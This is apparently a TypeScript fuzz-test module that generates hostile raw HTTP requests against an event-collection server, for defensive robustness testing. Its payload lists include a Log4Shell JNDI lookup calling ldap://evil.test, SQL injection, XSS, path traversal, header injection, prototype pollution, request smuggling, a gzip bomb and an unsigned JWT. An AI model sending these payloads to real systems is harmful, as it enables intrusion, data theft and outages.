// Hostile requests, made from a seed: what scanners, broken proxies and people with time send to an open port. Each is
// the bytes of a whole connection, so that what no HTTP library would send is sent too.
import { deflateRawSync, gzipSync } from 'node:zlib';
import { anEvent, siteKey, siteOrigin } from '../../helpers.ts';

export type Random = () => number;

/** Mulberry32: small, and the same everywhere. */
export function createRandom(seed: number): Random {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

/** The bytes to write to a fresh connection; the request is number `number` of its run. */
export function hostileRequest(random: Random, number: number): Buffer {
  const body = pick(random, bodies)(random, number);
  return random() < 0.15 ? rawRequest(random, body) : request(random, body);
}

function pick<Item>(random: Random, items: readonly Item[]): Item {
  return items[Math.floor(random() * items.length)] as Item;
}

/** A look-up that some logging libraries carried out. */
const jndi = ['$', '{jndi:ldap://evil.test/a}'].join('');

const strange: readonly unknown[] = [
  null,
  true,
  0,
  -1,
  1e308,
  '',
  ' ',
  '\u0000',
  '\ud800',
  '\u202e\u2066',
  "'; DROP TABLE event; --",
  jndi,
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '%00%0d%0aset-cookie: a=b',
  'line\r\nset-cookie: a=b',
  '__proto__',
  'constructor',
  'task:new',
  'wxcc',
  'none',
  'x'.repeat(300),
  'x'.repeat(70_000),
  '9'.repeat(400),
  [],
  {},
  [[[[[[]]]]]],
  { __proto__: null, toString: 1 },
];

type Body = (random: Random, number: number) => Buffer | string;

const valid: Body = (_random, number) =>
  JSON.stringify([
    anEvent({ identity: `fuzz-${number % 50}`, temporarysecret: 'fuzz' }),
    anEvent({ identity: `fuzz-${number % 50}` }),
  ]);

/** A valid batch with strange values in some members. */
const strangeMembers: Body = (random, number) => {
  const events = Array.from({ length: 1 + Math.floor(random() * 5) }, () => {
    const event: Record<string, unknown> = { ...anEvent({ identity: `fuzz-${number % 50}`, temporarysecret: 'fuzz' }) };
    for (const name of [...Object.keys(event), 'previousidentity', 'identitytoken', 'clockoffset', 'extra']) {
      if (random() < 0.15) event[name] = pick(random, strange);
      if (random() < 0.03) delete event[name];
    }
    return random() < 0.1 ? pick(random, strange) : event;
  });
  return JSON.stringify(events);
};

/** A valid batch with some bytes changed, cut off or doubled. */
const brokenBytes: Body = (random, number) => {
  const bytes = Buffer.from(valid(random, number));
  for (let change = 0; change < 1 + random() * 8; change++) {
    bytes[Math.floor(random() * bytes.length)] = Math.floor(random() * 256);
  }
  return bytes.subarray(0, random() < 0.3 ? Math.floor(random() * bytes.length) : bytes.length);
};

const raw: Body = (random) =>
  Buffer.from(Array.from({ length: Math.floor(random() * 500) }, () => Math.floor(random() * 256)));

const nested: Body = (random) => {
  const levels = Math.floor(random() * 100_000);
  const [open, close] = pick(random, [
    ['[', ']'],
    ['{"a":', '}'],
    ['[{"data":', '}]'],
  ] as const);
  return open.repeat(levels) + (random() < 0.5 ? close.repeat(levels) : '');
};

const oddNames: Body = (random) =>
  `[${JSON.stringify(anEvent()).slice(0, -1)},${pick(random, [
    '"__proto__":{"polluted":1}',
    '"constructor":{"prototype":{"polluted":1}}',
    '"id":"twice"',
    '"data":{"__proto__":{"polluted":1}}',
    '"\\u005f\\u005fproto__":{"polluted":1}',
    '"time":"9999-12-31T23:59:59Z"',
    '"time":"0001-01-01T00:00:00Z"',
    '"previousidentity":"fuzz-1","identity":"victim@bank.test","identitytype":"email"',
    '"identitytoken":"eyJhbGciOiJub25lIn0.e30."',
  ])}}]`;

const wide: Body = (random) => {
  const count = Math.floor(random() * 3000);
  return random() < 0.5
    ? JSON.stringify(new Array(count).fill(0))
    : JSON.stringify([
        anEvent({ data: Object.fromEntries(Array.from({ length: count }, (_none, index) => [`m${index}`, index])) }),
      ]);
};

const large: Body = (random) => `["${'x'.repeat(Math.floor(random() * 1_200_000))}"]`;

const zipped: Body = (random, number) => {
  const plain = pick(random, [valid, strangeMembers, nested, wide])(random, number);
  const packed = gzipSync(plain, { level: 1 });
  if (random() < 0.3) packed[Math.floor(random() * packed.length)] = Math.floor(random() * 256);
  return random() < 0.2 ? packed.subarray(0, Math.floor(random() * packed.length)) : packed;
};

const bomb: Body = (random) =>
  random() < 0.2 ? gzipSync(Buffer.alloc(3_000_000, 0x20), { level: 1 }) : deflateRawSync('[]');

const bodies: readonly Body[] = [
  valid,
  strangeMembers,
  strangeMembers,
  strangeMembers,
  brokenBytes,
  brokenBytes,
  raw,
  nested,
  oddNames,
  oddNames,
  wide,
  large,
  zipped,
  zipped,
  bomb,
];

const paths = [
  `/collect?key=${siteKey}`,
  `/collect?key=${siteKey}&sent=${'9'.repeat(20)}&consent=__proto__&counters=1.2.3.4`,
  `/collect?key=${siteKey}&key=${siteKey}`,
  `/collect?key[]=a&key[__proto__]=b`,
  '/collect?key=%00%ff%fe',
  '/collect?%',
  `/collect?${'a=b&'.repeat(1000)}`,
  '/collect/../metrics',
  '//collect',
  '/metrics',
  '/readyz',
  '/waymark.js',
  '/%2e%2e/%2e%2e/etc/passwd',
  '/v1/api/events/workspace-id/64f000000000000000000001?identity=%00&filter=((((',
  '/v1/api/events/workspace-id/64f000000000000000000001?identity=a&bearerToken=b',
  '/v1/api/events/stream/workspace-id/x/identity/y',
  `/admin/v1/api/person/workspace-id/64f000000000000000000001/aliases/${'a'.repeat(3000)}`,
  '/admin/v1/api/person/workspace-id/%F0%9F%98%80',
];

const headerLines = [
  `origin: ${siteOrigin}`,
  'origin: null',
  'origin: https://evil.test',
  'content-type: text/plain;charset=UTF-8',
  'content-type: application/cloudevents-batch+json',
  'content-type: ../../etc',
  'content-type: multipart/form-data; boundary=x',
  'content-encoding: gzip',
  'content-encoding: br',
  'expect: 100-continue',
  'authorization: Bearer sk_guessed',
  `authorization: Bearer ${'a'.repeat(5000)}`,
  'authorization: Basic Og==',
  'cookie: wm_id=a.b; __proto__=c',
  'x-forwarded-for: 127.0.0.1, ::1, evil',
  'x-http-method-override: DELETE',
  `user-agent: ${jndi}`,
  'user-agent:',
  'range: bytes=0-999999999',
  'upgrade: websocket\r\nconnection: upgrade',
];

function request(random: Random, body: Buffer | string): Buffer {
  const bytes = Buffer.from(body);
  const method =
    random() < 0.9 ? 'POST' : pick(random, ['GET', 'PUT', 'DELETE', 'OPTIONS', 'HEAD', 'PATCH', 'TRACE', 'PROPFIND']);
  const path = random() < 0.75 ? paths[0] : pick(random, paths);
  const headers = headerLines.filter(() => random() < 0.05);
  const head = [
    `${method} ${path} HTTP/1.1`,
    'host: 127.0.0.1',
    'connection: close',
    ...headers,
    `content-length: ${bytes.length}`,
  ];
  return Buffer.concat([Buffer.from(`${head.join('\r\n')}\r\n\r\n`), bytes]);
}

/** What is hardly HTTP. */
function rawRequest(random: Random, body: Buffer | string): Buffer {
  const bytes = Buffer.from(body).subarray(0, 5000);
  const path = paths[0];
  const head = pick(random, [
    `POST ${path} HTTP/1.1\r\nhost: x\r\nconnection: close\r\ncontent-length: ${bytes.length + 10}\r\n\r\n`,
    `POST ${path} HTTP/1.1\r\nhost: x\r\ncontent-length: 5\r\ncontent-length: 6\r\n\r\n`,
    `POST ${path} HTTP/1.1\r\nhost: x\r\ncontent-length: -1\r\n\r\n`,
    `POST ${path} HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\nzz\r\n`,
    `POST ${path} HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\ncontent-length: 3\r\n\r\n3\r\nabc\r\n0\r\n\r\n`,
    `POST ${path} HTTP/1.1\r\nhost: x\r\nconnection: close\r\ntransfer-encoding: chunked\r\n\r\n2\r\n[]\r\n0\r\n\r\n`,
    `POST ${path} HTTP/9.9\r\n\r\n`,
    `POST ${path}\r\n\r\n`,
    `GET / HTTP/1.1\r\nhost: x\r\nx: ${'a'.repeat(20_000)}\r\n\r\n`,
    `POST ${path} HTTP/1.1\r\nhost: x\r\nbad header\r\n\r\n`,
    '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03',
    'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
    '\r\n'.repeat(50),
  ]);
  return Buffer.concat([Buffer.from(head, 'latin1'), bytes]);
}
